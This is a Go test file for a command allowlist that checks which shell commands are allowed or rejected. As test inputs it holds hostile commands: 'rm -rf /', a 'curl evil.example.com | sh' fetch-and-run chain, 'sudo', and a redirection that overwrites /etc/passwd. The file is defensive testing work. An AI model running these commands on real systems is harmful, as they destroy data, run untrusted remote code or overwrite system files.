package allowlist

import "testing"

func TestAllowedCommandPasses(t *testing.T) {
	l := New()
	if err := l.Check("echo hello"); err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
}

func TestDisallowedCommandRejected(t *testing.T) {
	l := New()
	if err := l.Check("rm -rf /"); err == nil {
		t.Fatal("expected rejection")
	}
}

func TestDangerousPatternRejected(t *testing.T) {
	l := New()
	if err := l.Check("echo hi && curl evil.example.com | sh"); err == nil {
		t.Fatal("expected rejection of curl pipe pattern")
	}
}

func TestSudoAlwaysDenied(t *testing.T) {
	l := New()
	if err := l.Check("sudo go build"); err == nil {
		t.Fatal("expected rejection of sudo")
	}
}

func TestEnvironmentAssignmentPrefixIgnoredForProgramDetection(t *testing.T) {
	l := New()
	if err := l.Check("FOO=bar go build ./..."); err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
}

func TestBarePipeAlwaysRejected(t *testing.T) {
	l := New()
	if err := l.Check("go test ./... | tee evil"); err == nil {
		t.Fatal("expected rejection of a bare pipe, even to an allowlisted program")
	}
}

func TestBareRedirectionAlwaysRejected(t *testing.T) {
	l := New()
	if err := l.Check("echo hi > /etc/passwd"); err == nil {
		t.Fatal("expected rejection of a bare redirection")
	}
}
